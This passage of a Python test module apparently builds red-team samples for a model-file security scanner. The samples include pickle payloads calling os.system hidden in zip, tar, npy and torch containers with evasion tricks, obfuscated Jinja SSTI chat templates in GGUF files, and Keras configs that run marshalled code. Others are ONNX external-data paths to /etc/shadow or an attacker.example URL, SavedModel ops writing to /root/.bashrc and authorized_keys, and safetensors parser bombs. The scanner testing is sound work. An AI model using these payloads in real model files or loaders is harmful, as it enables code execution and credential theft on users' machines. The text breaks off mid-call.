"""Hostile samples in containers and non-pickle formats: zip/tar/7z tricks, GGUF template SSTI,
Keras configs, ONNX external data, safetensors headers."""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import struct
import tarfile
import zipfile
from functools import partial
from pathlib import Path

from tests.scan.redteam.build import (
    STOP,
    Call,
    Case,
    call,
    dumps,
    file_case,
    g,
    proto,
    put,
    s,
    shell,
    torch_zip,
    zip_bytes,
)

GAPS: dict[str, str] = {
}
"""Sample id → the scanner gap it shows today (measured; the test is a strict xfail)."""

def evil_pickle(canary: Path) -> bytes:
    return dumps(Call(os.system, shell(canary)), protocol=2)


def benign_pickle() -> bytes:
    return dumps({"epoch": 3, "lr": 0.001}, protocol=2)


def tar_bytes(members: list[tuple[str, bytes]], mode: str = "w") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as tf:  # type: ignore[call-overload]
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(data), 1_704_067_200
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _set_method(data: bytes, member: str, method: int) -> bytes:
    """Rewrite ``member``'s compression method in both headers (stored data left as is)."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        info = zf.getinfo(member)
    buf = bytearray(data)
    struct.pack_into("<H", buf, info.header_offset + 8, method)
    pos = data.find(b"PK\x01\x02")
    while pos != -1:
        n_len = struct.unpack_from("<H", data, pos + 28)[0]
        if data[pos + 46:pos + 46 + n_len] == member.encode():
            struct.pack_into("<H", buf, pos + 10, method)
        pos = data.find(b"PK\x01\x02", pos + 4)
    return bytes(buf)


def _zstd_raw_frame(payload: bytes) -> bytes:
    """A zstd frame holding ``payload`` in raw (stored) blocks (RFC 8878); no library needed."""
    header = b"\x28\xb5\x2f\xfd" + bytes([0xA0]) + struct.pack("<I", len(payload))
    return header + _blocks(payload)


def _blocks(payload: bytes) -> bytes:
    out = bytearray()
    step = 1 << 16
    for start in range(0, max(len(payload), 1), step):
        chunk = payload[start:start + step]
        last = int(start + step >= len(payload))
        out += struct.pack("<I", last | (len(chunk) << 3))[:3] + chunk
    return bytes(out)


def _npz_with_payload(canary: Path) -> bytes:
    import numpy as np

    arr = np.empty(2, dtype=object)
    arr[0], arr[1] = "label", Call(os.system, shell(canary))
    buf = io.BytesIO()
    np.savez(buf, weights=np.ones(3), meta=arr)
    return buf.getvalue()


def container_cases() -> list[Case]:
    E = evil_pickle
    B = benign_pickle()
    z = zipfile
    spec: list[tuple[str, str, str, object]] = [
        ("dup-name-evil-last", "two members named archive/data.pkl, the hostile one last",
         "dup_last.pt", lambda c: zip_bytes([("archive/data.pkl", B), ("archive/data.pkl", E(c)),
                                             ("archive/version", b"3\n")])),
        ("dup-name-evil-first", "two members named archive/data.pkl, the hostile one first",
         "dup_first.pt", lambda c: zip_bytes([("archive/data.pkl", E(c)), ("archive/data.pkl", B),
                                              ("archive/version", b"3\n")])),
        ("two-zips-concatenated", "benign torch zip followed by a hostile one (two directories)",
         "concat.pt", lambda c: torch_zip(B) + zip_bytes([("archive/data.pkl", E(c))])),
        ("uppercase-data-pkl", "torch layout with uppercase ARCHIVE/DATA.PKL",
         "upper.pt", lambda c: zip_bytes([("ARCHIVE/DATA.PKL", E(c)), ("ARCHIVE/VERSION", b"3\n")])),
        ("dot-data-member", "hostile pickle under archive/.data/ beside a benign data.pkl",
         "dotdata.pt", lambda c: torch_zip(B, extra=[("archive/.data/extra.pkl", E(c))])),
        ("other-top-folder", "data.pkl in a differently-named top folder, version elsewhere",
         "topfolder.pt", lambda c: zip_bytes([("model_final/data.pkl", E(c)),
                                              ("archive/version", b"3\n")])),
        ("zip64", "torch zip written with ZIP64 extra fields", "zip64.pt",
         lambda c: zip_bytes([("archive/data.pkl", E(c)), ("archive/version", b"3\n")], zip64=True)),
        ("bzip2-member", "data.pkl compressed with bzip2 (method 12)", "bzip2.pt",
         lambda c: zip_bytes([("archive/data.pkl", E(c)), ("archive/version", b"3\n")],
                             z.ZIP_BZIP2)),
        ("lzma-member", "data.pkl compressed with LZMA (method 14)", "lzma.pt",
         lambda c: zip_bytes([("archive/data.pkl", E(c)), ("archive/version", b"3\n")],
                             z.ZIP_LZMA)),
        ("deflate64-member", "model.pkl under compression method 9 (deflate64): unreadable, must "
         "fail closed", "deflate64.zip",
         lambda c: _set_method(zip_bytes([("model/model.pkl", E(c))]), "model/model.pkl", 9)),
        ("pickle-prefix-before-zip", "hostile pickle prepended to a torch zip (torch.load takes "
         "the legacy path and unpickles it)", "prefixed.pt", lambda c: E(c) + torch_zip(B)),
        ("pkl-gz", "gzip-wrapped raw pickle (.pkl.gz)", "model.pkl.gz",
         lambda c: gzip.compress(E(c), mtime=0)),
        ("pkl-zst", "zstd-wrapped raw pickle (.pkl.zst): unreadable, must fail closed",
         "model.pkl.zst", lambda c: _zstd_raw_frame(E(c))),
        ("tar-xz", "hostile pickle in a tar.xz", "model.tar.xz",
         lambda c: lzma.compress(tar_bytes([("m/model.pkl", E(c))]))),
        ("tar-bz2", "hostile pickle in a tar.bz2", "model.tar.bz2",
         lambda c: bz2.compress(tar_bytes([("m/model.pkl", E(c))]))),
        ("npz-in-zip", "npz with a hostile object array, inside a zip", "bundle.zip",
         lambda c: zip_bytes([("bundle/arrays.npz", _npz_with_payload(c))], z.ZIP_DEFLATED)),
        ("zip-in-targz-in-zip", "pickle in zip in tar.gz in zip (three containers)", "deep.zip",
         lambda c: zip_bytes([("outer/inner.tar.gz", gzip.compress(tar_bytes(
             [("x/inner.zip", zip_bytes([("model.pkl", E(c))]))]), mtime=0))])),
        ("torch-in-tar", "hostile torch zip inside a tar", "ckpt.tar",
         lambda c: tar_bytes([("ckpt/model.pt", torch_zip(E(c)))])),
    ]
    out = []
    for key, tech, rel, fn in spec:
        out.append(file_case(f"container-{key}", "malicious", tech, rel, fn,  # type: ignore[arg-type]
                             GAPS.get(f"container-{key}")))
    return out


# -- GGUF -----------------------------------------------------------------------------------

def gguf_file(path: Path, templates: dict[str, str]) -> Path:
    import gguf
    import numpy as np

    path.parent.mkdir(parents=True, exist_ok=True)
    writer = gguf.GGUFWriter(path, "llama")
    writer.add_name("redteam-tiny")
    for key, value in templates.items():
        writer.add_string(key, value)
    writer.add_tensor("token_embd.weight", np.arange(32, dtype=np.float32).reshape(8, 4))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    return path


CHATML = ("{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + "
          "message['content'] + '<|im_end|>' + '\\n'}}{% endfor %}"
          "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}")


def _ssti(cmd: str) -> dict[str, tuple[str, str]]:
    return {
        "template-reference-context": (
            "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('"
            + cmd + "').read() }}", "self._TemplateReference__context → cycler globals"),
        "namespace-globals": (
            "{{ namespace.__init__.__globals__.os.system('" + cmd + "') }}",
            "namespace.__init__.__globals__ → os"),
        "request-application": (
            "{{ request.application.__globals__.__builtins__.__import__('os').popen('" + cmd
            + "').read() }}", "request.application.__globals__ (Flask-style)"),
        "config-class-globals": (
            "{{ config.__class__.__init__.__globals__['os'].popen('" + cmd + "').read() }}",
            "config.__class__.__init__.__globals__['os']"),
        "attr-tilde-concat": (
            "{% set g = '__glo' ~ 'bals__' %}{{ lipsum|attr(g)|attr('__getitem__')('os')"
            "|attr('popen')('" + cmd + "') }}", "|attr with a ~-concatenated name in a {% set %}"),
        "format-built-name": (
            "{% set u = '%c%c'|format(95, 95) %}{{ ()|attr(u ~ 'class' ~ u)|attr(u ~ 'base' ~ u)"
            "|attr(u ~ 'subclasses' ~ u)() }}", "dunder names built with |format('%c')"),
        "join-built-name": (
            "{% set n = ['__', 'class', '__']|join %}{{ ()|attr(n)|attr(['__', 'mro', '__']|join)"
            " }}", "dunder names built with |join"),
        "replace-built-name": (
            "{{ ()|attr('XXclassXX'|replace('X', '_'))|attr('XXbaseXX'|replace('X', '_'))"
            "|attr('XXsubclassesXX'|replace('X', '_'))() }}", "dunder names built with |replace"),
        "getitem-chain": (
            "{{ lipsum.__getattribute__('__glo' + 'bals__').__getitem__('os').popen('" + cmd
            + "') }}", ".__getattribute__/.__getitem__ chains"),
        "dict-pop": (
            "{{ cycler.__init__.__globals__.__dict__.pop('x', 1) }}{{ cycler.__dict__.pop('y', 2) }}",
            ".pop on __dict__"),
        "string-list-chars": (
            "{% set c = (dict(a=1)|string|list) %}{% set us = (lipsum|string|list)[0:0] %}"
            "{{ ()|attr((\"%c\"|format(95)) * 2 ~ \"class\" ~ (\"%c\"|format(95)) * 2) }}",
            "underscores from |format with a repeated %c"),
        "adjacent-literals": (
            "{{ ()['__cla' 'ss__']['__ba' 'se__']['__subcl' 'asses__']() }}",
            "adjacent string literals concatenated by the lexer"),
        "unicode-escape": (
            "{{ ()|attr('\\u005f\\u005fclass\\u005f\\u005f') }}", "\\u005f escaped dunders"),
        "octal-escape": ("{{ ()|attr('\\137\\137class\\137\\137') }}", "octal-escaped dunders"),
        "dict-keys-name": (
            "{% set k = dict(__class__=1)|list|first %}{{ ()|attr(k) }}",
            "dunder name taken from dict(...) keys"),
        "tool-use-named-template": (
            CHATML + "{% set x = joiner.__init__.__globals__.os.popen('" + cmd + "') %}",
            "payload after a real ChatML template"),
    }


def gguf_cases() -> list[Case]:
    out = []
    for key, (_, tech) in _ssti("touch X").items():
        def build(folder: Path, canary: Path, key: str = key) -> Path:
            tmpl = _ssti(shell(canary))[key][0]
            return gguf_file(folder / f"{key}.gguf", {"tokenizer.chat_template": tmpl})
        out.append(Case(f"gguf-ssti-{key}", "malicious", tech, build, GAPS.get(f"gguf-ssti-{key}")))

    def named(folder: Path, canary: Path) -> Path:
        return gguf_file(folder / "named.gguf", {
            "tokenizer.chat_template": CHATML,
            "tokenizer.chat_templates": "rag",  # names listed, each under its own key
            "tokenizer.chat_template.rag": _ssti(shell(canary))["namespace-globals"][0]})
    out.append(Case("gguf-ssti-named-rag", "malicious", "SSTI in a named 'rag' chat template",
                    named, GAPS.get("gguf-ssti-named-rag")))
    return out


# -- Keras ----------------------------------------------------------------------------------

def _lambda_code(canary: Path) -> str:
    src = f"lambda x: (__import__('os').system({shell(canary)!r}), x)[1]"
    code = compile(src, "<redteam>", "eval")
    fn_code = next(k for k in code.co_consts if hasattr(k, "co_code"))
    return base64.b64encode(marshal.dumps(fn_code)).decode()


def _layer(cls: str, name: str, config: dict[str, object], module: str = "keras.layers",
           **extra: object) -> dict[str, object]:
    return {"module": module, "class_name": cls, "config": {"name": name, "trainable": True,
                                                            "dtype": "float32", **config},
            "registered_name": None, **extra}


def _lambda(canary: Path, name: str = "lam") -> dict[str, object]:
    return _layer("Lambda", name, {"function": {"class_name": "__lambda__", "config": {
        "code": _lambda_code(canary), "defaults": None, "closure": None}},
        "arguments": {}, "output_shape": None})


def _functional(name: str, layers: list[dict[str, object]]) -> dict[str, object]:
    return {"module": "keras", "class_name": "Functional", "config": {
        "name": name, "trainable": True, "layers": layers,
        "input_layers": [["input", 0, 0]], "output_layers": [[layers[-1]["config"]["name"], 0, 0]]},  # type: ignore[index]
        "registered_name": None}


def _sequential(name: str, layers: list[dict[str, object]]) -> dict[str, object]:
    return {"module": "keras", "class_name": "Sequential", "config": {
        "name": name, "trainable": True, "dtype": "float32",
        "layers": [_layer("InputLayer", "input", {"batch_shape": [None, 4]}), *layers]},
        "registered_name": None, "build_config": {"input_shape": [None, 4]}}


def keras_file(config: dict[str, object], extra: dict[str, object] | None = None) -> bytes:
    import h5py

    weights = io.BytesIO()
    with h5py.File(weights, "w") as f:
        f.create_group("layers").create_group("dense").create_group("vars")
        f["layers/dense/vars"].create_dataset("0", data=[[0.5] * 2] * 4)
    meta = {"keras_version": "3.6.0", "date_saved": "2024-11-05@10:21:44"}
    return zip_bytes([("metadata.json", json.dumps(meta).encode()),
                      ("config.json", json.dumps({**config, **(extra or {})}).encode()),
                      ("model.weights.h5", weights.getvalue())])


_DENSE = _layer("Dense", "dense", {"units": 2, "activation": "relu"})


def _keras_spec(c: Path) -> dict[str, tuple[str, bytes]]:
    return {
        "lambda-nested-functional": (
            "Lambda inside a Functional submodel inside a Sequential",
            keras_file(_sequential("outer", [_DENSE, _functional("sub", [
                _layer("InputLayer", "input", {"batch_shape": [None, 2]}), _lambda(c)])]))),
        "lambda-time-distributed": (
            "Lambda wrapped by TimeDistributed (config.layer)",
            keras_file(_sequential("s", [_layer("TimeDistributed", "td", {"layer": _lambda(c)})]))),
        "lambda-bidirectional-backward": (
            "Lambda as Bidirectional's backward_layer",
            keras_file(_sequential("s", [_layer("Bidirectional", "bi", {
                "layer": _layer("LSTM", "f", {"units": 2}), "backward_layer": _lambda(c, "b")})]))),
        "lambda-shared-object": (
            "Lambda whose first occurrence carries shared_object_id, reused by id later",
            keras_file(_sequential("s", [
                {**_lambda(c), "shared_object_id": 140234},
                {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "lam"},
                 "shared_object_id": 140234, "registered_name": None}]))),
        "module-builtins-eval": (
            "layer whose module is builtins and class_name eval",
            keras_file(_sequential("s", [_DENSE, _layer("eval", "e", {}, module="builtins")]))),
        "tfsmlayer": (
            "keras.layers.TFSMLayer loading an attacker SavedModel path",
            keras_file(_sequential("s", [_layer("TFSMLayer", "t", {
                "filepath": str(c.parent / "evil_savedmodel"), "call_endpoint": "serve"})]))),
        "get-file-function": (
            "function object keras.utils.get_file (downloads/overwrites a file)",
            keras_file(_sequential("s", [_DENSE]), {"compile_config": {"loss": {
                "module": "keras.utils", "class_name": "function", "config": "get_file",
                "registered_name": "get_file"}}})),
        "enable-unsafe-deserialization": (
            "function keras.config.enable_unsafe_deserialization (turns safe_mode off)",
            keras_file(_sequential("s", [_DENSE, {
                "module": "keras.config", "class_name": "function",
                "config": "enable_unsafe_deserialization",
                "registered_name": "enable_unsafe_deserialization"}]))),
        "loss-os-system": (
            "compile_config loss is the function os.system",
            keras_file(_sequential("s", [_DENSE]), {"compile_config": {"loss": {
                "module": "os", "class_name": "function", "config": "system",
                "registered_name": None}}})),
    }


def _keras_h5_bin(canary: Path) -> bytes:
    import h5py

    cfg = {"class_name": "Functional", "config": {"name": "m", "layers": [
        {"class_name": "InputLayer", "name": "in", "config": {"batch_input_shape": [None, 4]}},
        {"class_name": "Model", "name": "sub", "config": {"name": "sub", "layers": [
            {"class_name": "Lambda", "name": "l", "config": {
                "name": "l", "function": [_lambda_code(canary), None, None],
                "function_type": "lambda", "module": "__main__", "arguments": {}}}]}}]}}
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = json.dumps(cfg).encode()
        f.create_group("model_weights")
    return buf.getvalue()


def _keras_data(key: str, canary: Path) -> bytes:
    return _keras_spec(canary)[key][1]


def keras_cases() -> list[Case]:
    out = []
    for key, (tech, _) in _keras_spec(Path("/x/c")).items():
        out.append(file_case(f"keras-{key}", "malicious", tech, f"{key}.keras",
                             partial(_keras_data, key), GAPS.get(f"keras-{key}")))
    out.append(file_case("keras-h5-bin-nested-lambda", "malicious",
                         "Keras 2 HDF5 saved as .bin, Lambda (config bytes) in a nested Model",
                         "tf_model.bin", _keras_h5_bin, GAPS.get("keras-h5-bin-nested-lambda")))
    return out


# -- ONNX --------------------------------------------------------------------------------------

def onnx_model(location: str | None, *, where: str = "initializer") -> bytes:
    from onnx import TensorProto, helper

    def ext(name: str) -> TensorProto:
        t = TensorProto(name=name, data_type=TensorProto.FLOAT, dims=[4, 2])
        if location is None:
            t.float_data.extend([0.5] * 8)
            return t
        t.data_location = TensorProto.EXTERNAL
        for key, value in (("location", location), ("offset", "0"), ("length", "32")):
            e = t.external_data.add()
            e.key, e.value = key, value
        return t

    x = helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])
    y = helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 2])
    inits = []
    nodes = [helper.make_node("MatMul", ["X", "W"], ["Y"])]
    if where == "initializer":
        inits = [ext("W")]
    elif where == "constant-attr":
        nodes = [helper.make_node("Constant", [], ["W"], value=ext("Wc")), *nodes]
    elif where == "subgraph":
        sub = helper.make_graph([helper.make_node("Identity", ["Ws"], ["W"])], "then",
                                [], [helper.make_tensor_value_info("W", TensorProto.FLOAT, [4, 2])],
                                initializer=[ext("Ws")])
        other = helper.make_graph([helper.make_node("Constant", [], ["W"],
                                                    value=helper.make_tensor(
                                                        "z", TensorProto.FLOAT, [4, 2], [0.0] * 8))],
                                  "else", [], [helper.make_tensor_value_info(
                                      "W", TensorProto.FLOAT, [4, 2])])
        cond = helper.make_tensor("cond", TensorProto.BOOL, [], [True])
        inits = [cond]
        nodes = [helper.make_node("If", ["cond"], ["W"], then_branch=sub, else_branch=other), *nodes]
    elif where == "sparse":
        from onnx import SparseTensorProto
        values = ext("Wv")
        values.dims[:] = [8]
        idx = helper.make_tensor("Wi", TensorProto.INT64, [8], list(range(8)))
        sp = SparseTensorProto(values=values, indices=idx, dims=[4, 2])
        graph = helper.make_graph(nodes, "g", [x], [y], sparse_initializer=[sp])
        return bytes(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]
                                       ).SerializeToString())
    graph = helper.make_graph(nodes, "g", [x], [y], initializer=inits)
    return bytes(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)],
                                   producer_name="redteam").SerializeToString())


def _onnx_data(location: str, where: str, canary: Path) -> bytes:
    return onnx_model(location, where=where)


def onnx_cases() -> list[Case]:
    spec = [
        ("url-http", "http://attacker.example/w.bin", "initializer", "external data location is "
         "an http URL"),
        ("url-file", "file:///etc/shadow", "initializer", "external data location file:// URL"),
        ("absolute-shadow", "/etc/shadow", "initializer", "absolute /etc/shadow"),
        ("windows-backslash", "..\\..\\..\\Windows\\win.ini", "initializer",
         "backslash traversal"),
        ("windows-drive", "C:\\Windows\\System32\\config\\SAM", "initializer",
         "Windows drive-letter path"),
        ("subgraph-traversal", "../../../../etc/passwd", "subgraph",
         "traversal in an If-branch subgraph initializer"),
        ("constant-attr-traversal", "../../../../etc/passwd", "constant-attr",
         "traversal in a Constant node's tensor attribute"),
        ("sparse-traversal", "../../../../etc/passwd", "sparse",
         "traversal in a sparse_initializer's values"),
    ]
    out = []
    for key, loc, where, tech in spec:
        out.append(file_case(f"onnx-{key}", "malicious", tech, f"{key}/model.onnx",
                             partial(_onnx_data, loc, where),
                             GAPS.get(f"onnx-{key}")))

    def symlink(folder: Path, canary: Path) -> Path:
        put(folder, "m/model.onnx", onnx_model("weights.bin"))
        (folder / "m" / "weights.bin").symlink_to("/etc/passwd")
        return folder / "m"
    out.append(Case("onnx-symlink-external", "malicious",
                    "in-directory external data file that is a symlink to /etc/passwd",
                    symlink, GAPS.get("onnx-symlink-external")))
    return out


# -- safetensors ---------------------------------------------------------------------------------

def _safetensors(header: dict[str, object] | str) -> bytes:
    text = (header if isinstance(header, str) else json.dumps(header)).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + bytes(16)


def _safetensors_data(header: str, canary: Path) -> bytes:
    return _safetensors(header)


def safetensors_cases() -> list[Case]:
    t = {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}
    nested = '{"__metadata__": {"a": ' + "[" * 50_000 + "]" * 50_000 + '}, "w": ' + json.dumps(t) + "}"
    spec = [
        ("deep-nesting", "metadata JSON nested 50,000 deep (parser bomb)", nested),
        ("duplicate-keys", "the same tensor name twice with different offsets",
         '{"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}, '
         '"w": {"dtype": "F32", "shape": [1073741824], "data_offsets": [0, 16]}}'),
        ("metadata-not-strings", "__metadata__ values that are objects (spec: str→str only)",
         json.dumps({"__metadata__": {"code": {"__class__": "os.system"}}, "w": t})),
    ]
    return [file_case(f"safetensors-{key}", "malicious", tech, f"{key}.safetensors",
                      partial(_safetensors_data, header), GAPS.get(f"safetensors-{key}"))
            for key, tech, header in spec]


def format_cases() -> list[Case]:
    return [*container_cases(), *gguf_cases(), *keras_cases(), *onnx_cases(),
            *safetensors_cases(), *round2_cases()]



# -- round 2: npy dtype spellings, deeper GGUF/Keras/ONNX, SavedModel ops, nesting ------------

def npy_bytes(descr: object, payload: bytes, version: int = 1) -> bytes:
    """An .npy file whose header names ``descr`` and whose body is ``payload`` (a pickle)."""
    header = "{'descr': " + repr(descr) + ", 'fortran_order': False, 'shape': (1,), }"
    size_fmt = "<H" if version == 1 else "<I"
    prefix = 10 if version == 1 else 12
    header += " " * (63 - (len(header) + prefix) % 64) + "\n"
    return (b"\x93NUMPY" + bytes([version, 0]) + struct.pack(size_fmt, len(header))
            + header.encode("latin1" if version < 3 else "utf8") + payload)


def _npy_payload(canary: Path) -> bytes:
    """The pickle numpy reads for an object array: a list with one hostile element."""
    return proto(2) + b"]" + call(g("os", "system"), s(shell(canary))) + b"a" + STOP


def _npy_data(descr: object, version: int, canary: Path) -> bytes:
    return npy_bytes(descr, _npy_payload(canary), version)


def npy_cases() -> list[Case]:
    spec: list[tuple[str, object, int, str]] = [
        ("descr-object-word", "object", 1, "descr 'object' (numpy reads it as dtype('O'))"),
        ("descr-object-underscore", "object_", 1, "descr 'object_'"),
        ("descr-equals-O", "=O", 1, "descr '=O'"),
        ("descr-O8", "O8", 1, "descr 'O8'"),
        ("descr-structured-object-field", [("w", "<f8"), ("meta", "|O")], 1,
         "structured dtype with an object field"),
        ("descr-titled-object-field", [(("title", "meta"), "|O")], 1,
         "structured dtype with a titled object field"),
        ("descr-subarray-object", [("m", "|O", (1,))], 1, "object sub-array field"),
        ("version-2-header", "|O", 2, "npy format 2.0 header (4-byte length) with an object array"),
        ("version-3-header", "|O", 3, "npy format 3.0 (utf-8) header with an object array"),
    ]
    return [file_case(f"npy-{key}", "malicious", tech, f"{key}.npy",
                      partial(_npy_data, descr, ver),
                      GAPS.get(f"npy-{key}")) for key, descr, ver, tech in spec]


def _gguf_be(folder: Path, canary: Path) -> Path:
    import gguf
    import numpy as np

    path = folder / "be.gguf"
    path.parent.mkdir(parents=True, exist_ok=True)
    writer = gguf.GGUFWriter(path, "llama", endianess=gguf.GGUFEndian.BIG)
    writer.add_string("tokenizer.chat_template", _ssti(shell(canary))["namespace-globals"][0])
    writer.add_tensor("token_embd.weight", np.arange(32, dtype=np.float32).reshape(8, 4))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    return path


def _gguf_duplicate(folder: Path, canary: Path) -> Path:
    """Two ``tokenizer.chat_template`` entries, benign first (GGUFWriter refuses duplicates, so
    the second key is renamed after writing: same length, one byte differs)."""
    path = gguf_file(folder / "dup.gguf", {
        "tokenizer.chat_template": CHATML,
        "tokenizer.chat_templatX": _ssti(shell(canary))["namespace-globals"][0]})
    data = path.read_bytes().replace(b"tokenizer.chat_templatX", b"tokenizer.chat_template")
    path.write_bytes(data)
    return path


def _gguf_build(key: str, text: str, folder: Path, canary: Path) -> Path:
    return gguf_file(folder / f"{key}.gguf", {"tokenizer.chat_template": text})


def gguf_round2_cases() -> list[Case]:
    tmpl = {
        "block-set-name": ("{% set n %}__class__{% endset %}{{ ()|attr(n)|attr('__base__') }}",
                           "dunder name from a {% set %}…{% endset %} block"),
        "reverse-filter": ("{{ ()|attr('__ssalc__'|reverse)|attr('__esab__'|reverse) }}",
                           "dunder names built with |reverse"),
        "lower-filter": ("{{ ()|attr('__CLASS__'|lower)|attr('__BASE__'|lower) }}",
                         "dunder names built with |lower"),
        "map-attribute": ("{{ [lipsum]|map(attribute='__globals__')|list }}",
                          "map(attribute='__globals__')"),
        "dynamic-attr-from-message": ("{% for m in messages %}{{ m|attr(m['role']) }}{% endfor %}",
                                      "|attr whose name is user input (generic gadget)"),
        "filter-block": ("{% filter lower %}{% set n %}__CLASS__{% endset %}{% endfilter %}"
                         "{{ ()|attr('_' * 2 ~ 'class' ~ '_' * 2) }}",
                         "underscores from string repetition '_' * 2"),
    }
    out = []
    for key, (text, tech) in tmpl.items():
        out.append(Case(f"gguf-ssti-{key}", "malicious", tech,
                        partial(_gguf_build, key, text),
                        GAPS.get(f"gguf-ssti-{key}")))
    out.append(Case("gguf-big-endian", "malicious", "big-endian GGUF with an SSTI template",
                    _gguf_be, GAPS.get("gguf-big-endian")))
    out.append(Case("gguf-duplicate-template-key", "malicious",
                    "tokenizer.chat_template twice, benign first, hostile second",
                    _gguf_duplicate, GAPS.get("gguf-duplicate-template-key")))
    return out


def keras_round2_cases() -> list[Case]:
    refs = [("src-get-file", "keras.src.utils.file_utils", "get_file"),
            ("saving-load-model", "keras.saving", "load_model"),
            ("src-saving-api-load-model", "keras.src.saving.saving_api", "load_model"),
            ("src-enable-unsafe", "keras.src.saving.serialization_lib",
             "enable_unsafe_deserialization"),
            ("legacy-h5-load", "keras.src.legacy.saving.legacy_h5_format",
             "load_model_from_hdf5")]
    out = []
    for key, module, name in refs:
        def data(c: Path, module: str = module, name: str = name) -> bytes:
            return keras_file(_sequential("s", [_DENSE]), {"compile_config": {"loss": {
                "module": module, "class_name": "function", "config": name,
                "registered_name": None}}})
        out.append(file_case(f"keras-fn-{key}", "malicious", f"function {module}.{name}",
                             f"{key}.keras", data, GAPS.get(f"keras-fn-{key}")))
    return out


def _onnx_function_external(c: Path) -> bytes:
    from onnx import TensorProto, helper

    t = TensorProto(name="Wf", data_type=TensorProto.FLOAT, dims=[4, 2])
    t.data_location = TensorProto.EXTERNAL
    for key, value in (("location", "../../../../etc/passwd"), ("offset", "0"), ("length", "32")):
        e = t.external_data.add()
        e.key, e.value = key, value
    fn = helper.make_function("custom", "LoadW", ["X"], ["Y"], [
        helper.make_node("Constant", [], ["W"], value=t),
        helper.make_node("MatMul", ["X", "W"], ["Y"])],
        opset_imports=[helper.make_opsetid("", 17)])
    graph = helper.make_graph(
        [helper.make_node("LoadW", ["X"], ["Y"], domain="custom")], "g",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 2])])
    model = helper.make_model(graph, functions=[fn], opset_imports=[
        helper.make_opsetid("", 17), helper.make_opsetid("custom", 1)])
    return bytes(model.SerializeToString())


def _onnx_training_info(c: Path) -> bytes:
    from onnx import ModelProto, TrainingInfoProto, helper

    model = ModelProto()
    model.ParseFromString(onnx_model(None))
    init_graph = helper.make_graph([], "init", [], [])
    model.training_info.append(TrainingInfoProto(initialization=init_graph))
    bad = ModelProto()
    bad.ParseFromString(onnx_model("../../../../etc/passwd"))
    model.training_info[0].initialization.initializer.extend(bad.graph.initializer)
    return bytes(model.SerializeToString())


def _savedmodel(nodes: list[bytes], functions: tuple[bytes, ...] = ()) -> bytes:
    from tests.scan.corpus import proto as p

    return p.saved_model(nodes, functions)


def _tf(op: str, path: str, extra_inputs: tuple[str, ...] = ()) -> list[bytes]:
    from tests.scan.corpus import proto as p

    const = p.node_def("path", "Const", attrs={"value": p.attr_value_str(path.encode())})
    ph = p.node_def("x", "Placeholder", attrs={"dtype": p.attr_value_type(1)})
    return [ph, const, p.node_def("op", op, ("path", *extra_inputs))]


def savedmodel_cases() -> list[Case]:
    from tests.scan.corpus import proto as p

    spec: list[tuple[str, str, object]] = [
        ("savev2-absolute", "SaveV2 writing to a constant absolute prefix (/root/.bashrc)",
         lambda: _savedmodel(_tf("SaveV2", "/root/.bashrc", ("x", "x", "x")))),
        ("summary-writer", "CreateSummaryFileWriter with a constant logdir (writes files)",
         lambda: _savedmodel(_tf("CreateSummaryFileWriter", "/tmp/exfil"))),
        ("dataset-to-tfrecord", "DatasetToTFRecord writing to a constant path",
         lambda: _savedmodel(_tf("DatasetToTFRecord", "/root/.ssh/authorized_keys", ("x",)))),
        ("textline-dataset", "TextLineDataset reading /etc/shadow in a function body",
         lambda: _savedmodel([], (p.function_def("__inference_serve_7", _tf(
             "TextLineDataset", "/etc/shadow")),))),
        ("pyfunc-stateless-fn", "PyFuncStateless in a function body",
         lambda: _savedmodel([], (p.function_def("__inference_call_3", [
             p.node_def("py", "PyFuncStateless", ("x",),
                        {"token": p.attr_value_str(b"pyfunc_1")})]),))),
    ]
    out = []
    for key, tech, fn in spec:
        def build(folder: Path, canary: Path, key: str = key, fn: object = fn) -> Path:
            put(folder, f"{key}/saved_model.pb", fn())  # type: ignore[operator]
            (folder / key / "variables").mkdir()
            return folder / key
        out.append(Case(f"savedmodel-{key}", "malicious", tech, build,
                        GAPS.get(f"savedmodel-{key}")))
    return out


def _nested_zips(canary: Path, depth: int) -> bytes:
    data = evil_pickle(canary)
    name = "model.pkl"
    for level in range(depth):
        data, name = zip_bytes([(name, data)]), f"level{level}.zip"
    return data


def round2_cases() -> list[Case]:
    out = [*npy_cases(), *gguf_round2_cases(), *keras_round2_cases(), *savedmodel_cases()]
    out.append(file_case("onnx-function-constant-traversal", "malicious",
                         "traversal in a Constant inside a model-local FunctionProto",
                         "fn/model.onnx", _onnx_function_external,
                         GAPS.get("onnx-function-constant-traversal")))
    out.append(file_case("onnx-training-info-traversal", "malicious",
                         "traversal in a training_info initialization graph initializer",
                         "ti/model.onnx", _onnx_training_info,
                         GAPS.get("onnx-training-info-traversal")))
    out.append(file_case("container-zip-nested-8-deep", "malicious",
                         "hostile pickle 8 zips deep (beyond the nesting limit: fail closed)",
                         "deep8.zip", lambda c: _nested_zips(c, 8),
                         GAPS.get("container-zip-nested-8-deep")))
    out.append(file_case("container-torch-persid-global", "malicious",
                         "torch data.pkl whose persistent id names os.system as storage type",
                         "persid.pt", lambda c: torch_zip(
